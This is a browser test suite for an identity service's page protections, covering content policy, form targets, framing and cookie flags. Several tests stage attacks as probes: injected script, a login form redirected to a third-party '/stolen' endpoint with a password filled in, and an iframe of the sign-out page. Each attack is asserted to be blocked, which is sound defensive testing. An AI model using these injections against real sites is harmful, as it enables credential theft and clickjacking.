"""What guards the pages, as a browser enforces it: policy, cookies, frames."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest_asyncio

from examples import development_ca
from tests.support.browsing import Party, Window, Windows
from tests.support.live_cast import Cast, new_cast
from tests.support.live_service import Live, serving
from tests.support.service_process import new_site


async def test_the_policy_is_enforced_and_a_break_would_be_noticed(
    windows: Windows, live: Live, cast: Cast
) -> None:
    window = await windows.open(live)
    await window.authorize(await cast.plain_client())
    assert window.problems == []
    ran = await window.page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.injected = true";
          document.body.append(script);
          const picture = document.createElement("img");
          picture.src = "http://127.0.0.1:9/";
          document.body.append(picture);
          document.body.setAttribute("style", "color: red");
          return window.injected === true;
        }"""
    )
    assert ran is False
    assert len([said for said in window.problems if "Content Security Policy" in said]) >= 2


async def test_a_form_of_the_page_can_be_sent_nowhere_else(
    windows: Windows, live: Live, cast: Cast, party: Party
) -> None:
    window = await windows.open(live)
    await window.authorize(await cast.plain_client())
    address = window.page.url
    await window.page.evaluate(
        "to => { document.querySelector('main form').action = to }", f"{party.origin}/stolen"
    )
    await window.page.fill("#username", "sample")
    await window.page.fill("#password", "sample password")
    await window.page.evaluate("document.querySelector('main form').requestSubmit()")
    await window.page.wait_for_timeout(200)
    assert window.page.url == address
    assert not any("stolen" in asked for asked in party.asked)
    assert any("form-action" in said for said in window.problems)


async def test_no_page_is_shown_in_a_frame(window: Window, live: Live, party: Party) -> None:
    await window.page.goto(f"{party.origin}/")
    await window.page.evaluate(
        "to => { const frame = document.createElement('iframe');"
        " frame.src = to; document.body.append(frame) }",
        f"{live.issuer}/sign-out",
    )
    await window.page.wait_for_timeout(300)
    (framed,) = window.page.frames[1:]
    assert "Corp ID" not in await framed.content()
    assert any("frame" in said for said in window.problems)
    window.problems.clear()


async def test_cookies_on_loopback(window: Window, cast: Cast, party: Party) -> None:
    _, human = await cast.acting()
    await window.authorize(await cast.plain_client(redirect_uri=party.callback))
    await window.sign_in(human)
    cookies = {one["name"]: one for one in await window.context.cookies()}
    assert {"corpid-session", "corpid-interaction"} <= set(cookies)
    for cookie in cookies.values():
        assert cookie["httpOnly"]
        assert cookie["sameSite"] == "Lax"
        assert cookie["path"] == "/"
    assert cookies["corpid-session"]["expires"] == -1, "until the browser closes"
    assert await window.page.evaluate("document.cookie") == ""


@pytest_asyncio.fixture(loop_scope="session")
async def https(tmp_path: Path) -> AsyncIterator[Live]:
    """The service under https, with a certificate of a development CA."""
    _, certificate, key = development_ca.make(tmp_path)
    site = await new_site(
        "sqlite",
        tmp_path,
        scheme="https",
        argon2_memory_kib=64,
        tls_certificate=certificate,
        tls_key=key,
    )
    async with serving(site) as live:
        yield live


async def test_cookies_under_https(https: Live, windows: Windows, party: Party) -> None:
    async with https.site.foundation() as base:
        cast = new_cast(base)
        _, human = await cast.acting()
        client = await cast.plain_client(redirect_uri=party.callback)
        cast.close()
    window = await windows.open(https, ignore_https_errors=True)
    answer = await window.authorize(client)
    assert answer.headers["strict-transport-security"] == "max-age=31536000"
    await window.sign_in(human)
    cookies = await window.context.cookies()
    assert len(cookies) >= 2
    for cookie in cookies:
        assert cookie["name"].startswith("__Host-corpid-")
        assert cookie["secure"]
        assert cookie["httpOnly"]
        assert cookie["sameSite"] == "Lax"
    await window.submit("approve")
    assert "code" in window.answer
    assert window.problems == []
